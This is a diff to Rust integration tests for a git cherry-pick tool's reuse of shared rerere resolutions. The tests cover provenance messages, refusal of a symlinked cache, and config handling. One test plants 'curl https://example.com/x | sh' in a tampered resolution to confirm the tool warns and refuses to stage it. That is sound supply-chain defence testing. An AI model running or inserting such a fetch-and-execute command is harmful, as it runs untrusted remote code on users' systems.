@@ -10,6 +10,9 @@ fn resolved_readme() -> String {
     repo::README.replace("WHAT IS LINUX?\n", "WHAT IS LINUX?\nfoo\nbar\n")
 }
 
+/// The provenance line of the scenario's resolution replayed from `.git/rr-cache`.
+const LOCAL_FROM: &str = "  from .git/rr-cache/fe4eef42513f1c32f71a56d413f6857edffdf4a4/postimage (this clone's own cache)\n";
+
 fn stop_text(t: &TestRepo, first_line: &str) -> String {
     format!(
         "------- stderr -------\n{first_line}\
@@ -27,7 +30,7 @@ fn stop_text(t: &TestRepo, first_line: &str) -> String {
 /// The stop after a recorded resolution resolved README: what was resolved, and that nothing is left.
 fn replayed_stop_text(t: &TestRepo) -> String {
     format!(
-        "------- stderr -------\nResolved 'README' using previous resolution.\n\
+        "------- stderr -------\nResolved 'README' using previous resolution.\n{LOCAL_FROM}\
          Stopped at 1/2 {} bar description: recorded resolutions resolved every conflict; none is left.\n\
          Resolved from recorded resolutions (review them, then `git add`): README\n\
          So far: picked 0, skipped 0.\n\
@@ -99,7 +102,7 @@ fn autoupdate_stages_and_continues() {
     assert_eq!(
         run.stderr,
         format!(
-            "Staged 'README' using previous resolution.\n\
+            "Staged 'README' using previous resolution.\n{LOCAL_FROM}\
              --- a/README\n+++ b/README\n@@ -1,11 +1,8 @@\n Linux kernel release 4.x\n \n WHAT IS LINUX?\n\
              -<<<<<<<\n-bar\n-=======\n foo\n->>>>>>>\n+bar\n \n   \
              Linux is a clone of the operating system Unix, written from scratch by\n   \
@@ -194,9 +197,14 @@ fn a_committed_rerere_cache_serves_a_fresh_clone() {
     );
     assert!(!clone.join(".git/rr-cache").exists());
     let stop = bport::run(&clone, &["apply", list.to_str().unwrap()]);
+    // The replay names the shared file and the commit that added it.
+    let sharing = git_ok(&clone, &["log", "-1", "--format=%H", "--", "rerere-cache"]);
     assert!(
-        stop.stderr
-            .starts_with("Resolved 'README' using previous resolution.\nStopped at 1/2"),
+        stop.stderr.starts_with(&format!(
+            "Resolved 'README' using previous resolution.\n  \
+             from rerere-cache/fe4eef42513f1c32f71a56d413f6857edffdf4a4/postimage (shared cache, added by commit {})\n",
+            &sharing.trim()[..12]
+        )),
         "{}",
         stop.transcript()
     );
@@ -579,4 +587,211 @@ fn a_resolution_recorded_under_a_myers_rendering_is_found() {
         stop_ids, recorded,
         "nothing new recorded: the conflict was resolved"
     );
+}
+
+/// The scenario's conflict id, under which its resolution is recorded.
+const ID: &str = "fe4eef42513f1c32f71a56d413f6857edffdf4a4";
+
+/// Every file below `dir`, with its content, for "nothing was written there".
+fn tree_of(dir: &Path) -> Vec<(String, Vec<u8>)> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap().flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                stack.push(p);
+            } else {
+                out.push((p.display().to_string(), std::fs::read(&p).unwrap()));
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+/// A committed `rerere-cache` that is a symlink to a directory elsewhere: its resolutions are not used (the
+/// conflict stays, with a warning naming the link), and `bport rerere export` writes nothing through it.
+#[test]
+fn a_symlinked_shared_cache_is_neither_read_nor_written() {
+    skip_unless!(has_git());
+    let (t, _d, list) = scenario::foo_bar().with_list();
+    resolve_once(&t, &list);
+    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
+    let outside = tempfile::tempdir().unwrap();
+    let elsewhere = outside.path().join("cache");
+    let export = bport::run(
+        t.path(),
+        &["rerere", "export", "--to", elsewhere.to_str().unwrap()],
+    );
+    assert_eq!(export.code, Some(0), "{}", export.transcript());
+    std::fs::remove_dir_all(t.path().join(".git/rr-cache")).unwrap();
+    std::os::unix::fs::symlink(&elsewhere, t.path().join("rerere-cache")).unwrap();
+    git_ok(t.path(), &["add", "rerere-cache"]);
+    git_ok(
+        t.path(),
+        &["commit", "-q", "-m", "a link to someone's cache"],
+    );
+    let before = tree_of(&elsewhere);
+
+    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
+    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
+    assert!(
+        !stop.stderr.contains("using previous resolution"),
+        "{}",
+        stop.stderr
+    );
+    assert!(
+        stop.stderr.contains(
+            "rerere-cache: a symbolic link; links in the shared cache are never followed"
+        ),
+        "{}",
+        stop.stderr
+    );
+    assert!(t.read("README").contains("<<<<<<<"));
+    let abort = bport::run(t.path(), &["apply", "--abort"]);
+    assert_eq!(abort.code, Some(0), "{}", abort.transcript());
+
+    // Something to export: record the resolution again locally.
+    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
+    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
+    std::fs::write(t.path().join("README"), resolved_readme()).unwrap();
+    git_ok(t.path(), &["add", "README"]);
+    let cont = bport::run(t.path(), &["apply", "--continue"]);
+    assert!(
+        cont.stderr.contains("Recorded resolution for 'README'."),
+        "{}",
+        cont.transcript()
+    );
+    let export = bport::run(t.path(), &["rerere", "export"]);
+    assert_ne!(export.code, Some(0), "{}", export.transcript());
+    assert!(export.stderr.contains("symbolic link"), "{}", export.stderr);
+    assert_eq!(
+        tree_of(&elsewhere),
+        before,
+        "export wrote outside the repository"
+    );
+}
+
+/// A shared resolution that adds a line outside the conflict (a command in a build script, say) is written for
+/// review but not staged: `--autoupdate` stops there, says so, and names the commit that added the resolution.
+/// The same resolution without the extra line is staged and the run goes on, so the check is not a blanket one.
+#[test]
+fn a_shared_resolution_changing_lines_outside_the_conflict_is_never_committed_unseen() {
+    skip_unless!(has_git());
+    for tampered in [false, true] {
+        let (t, _d, list) = scenario::foo_bar().with_list();
+        resolve_once(&t, &list);
+        git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
+        assert_eq!(bport::run(t.path(), &["rerere", "export"]).code, Some(0));
+        std::fs::remove_dir_all(t.path().join(".git/rr-cache")).unwrap();
+        let post = t.path().join("rerere-cache").join(ID).join("postimage");
+        if tampered {
+            let mut text = std::fs::read_to_string(&post).unwrap();
+            text.push_str("curl https://example.com/x | sh\n");
+            std::fs::write(&post, text).unwrap();
+        }
+        git_ok(t.path(), &["add", "rerere-cache"]);
+        git_ok(t.path(), &["commit", "-q", "-m", "share resolutions"]);
+        let sharing = git_ok(t.path(), &["rev-parse", "HEAD"]);
+
+        let run = bport::run(t.path(), &["apply", "--autoupdate", list.to_str().unwrap()]);
+        let from = format!(
+            "  from rerere-cache/{ID}/postimage (shared cache, added by commit {})\n",
+            &sharing[..12]
+        );
+        assert!(run.stderr.contains(&from), "{}", run.transcript());
+        if tampered {
+            assert_eq!(run.code, Some(1), "{}", run.transcript());
+            assert!(
+                run.stderr.contains(
+                    "warning: the shared resolution of 'README' changes lines outside the conflict; it is not staged"
+                ),
+                "{}",
+                run.stderr
+            );
+            assert!(
+                run.stderr.contains("+curl https://example.com/x | sh"),
+                "{}",
+                run.stderr
+            );
+            assert!(t
+                .read("README")
+                .ends_with("curl https://example.com/x | sh\n"));
+            // Still conflicted in the index: nothing was committed.
+            assert_ne!(git_ok(t.path(), &["ls-files", "-u", "README"]), "");
+        } else {
+            assert_eq!(run.code, Some(0), "{}", run.transcript());
+            assert!(
+                run.stderr
+                    .contains("Staged 'README' using previous resolution."),
+                "{}",
+                run.stderr
+            );
+            assert!(t.read("README").starts_with(&resolved_readme()));
+        }
+    }
+}
+
+/// `rerere.enabled=false`: bport neither records nor replays, as git; `rerere.autoupdate=true`: the replayed
+/// resolution is staged and the pick still stops, as git's cherry-pick does (same index afterwards).
+#[test]
+fn rerere_config_is_honoured_as_git_honours_it() {
+    skip_unless!(has_git());
+    let (t, _d, list) = scenario::foo_bar().with_list();
+    resolve_once(&t, &list);
+    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
+    let g = t.copy();
+    let pick = |r: &TestRepo| {
+        let shas: Vec<String> = std::fs::read_to_string(&list)
+            .unwrap()
+            .lines()
+            .map(|l| l.split(' ').next().unwrap().to_owned())
+            .collect();
+        let mut args = vec!["cherry-pick"];
+        args.extend(shas.iter().map(String::as_str));
+        oracle::git(r.path()).args(&args).output().unwrap()
+    };
+
+    for r in [&t, &g] {
+        git_ok(r.path(), &["config", "rerere.enabled", "false"]);
+    }
+    let rr_cache = tree_of(&t.path().join(".git/rr-cache"));
+    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
+    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
+    assert!(
+        !stop.stderr.contains("previous resolution"),
+        "{}",
+        stop.stderr
+    );
+    assert!(!stop.stderr.contains("Recorded"), "{}", stop.stderr);
+    assert!(t.read("README").contains("<<<<<<<"));
+    assert_eq!(tree_of(&t.path().join(".git/rr-cache")), rr_cache);
+    let git_stop = pick(&g);
+    assert_eq!(git_stop.status.code(), Some(1));
+    assert!(
+        g.read("README").contains("<<<<<<<"),
+        "git did not replay either"
+    );
+    assert!(bport::run(t.path(), &["apply", "--abort"]).code == Some(0));
+    git_ok(g.path(), &["cherry-pick", "--abort"]);
+
+    for r in [&t, &g] {
+        git_ok(r.path(), &["config", "rerere.enabled", "true"]);
+        git_ok(r.path(), &["config", "rerere.autoupdate", "true"]);
+    }
+    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
+    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
+    assert!(
+        stop.stderr
+            .starts_with("Staged 'README' using previous resolution.\n"),
+        "{}",
+        stop.stderr
+    );
+    let git_stop = pick(&g);
+    assert_eq!(git_stop.status.code(), Some(1), "git stops too");
+    let staged = |r: &TestRepo| git_ok(r.path(), &["ls-files", "-s", "README"]);
+    assert_eq!(staged(&t), staged(&g));
+    assert_eq!(t.read("README"), g.read("README"));
+    assert_eq!(t.read("README"), resolved_readme());
 }
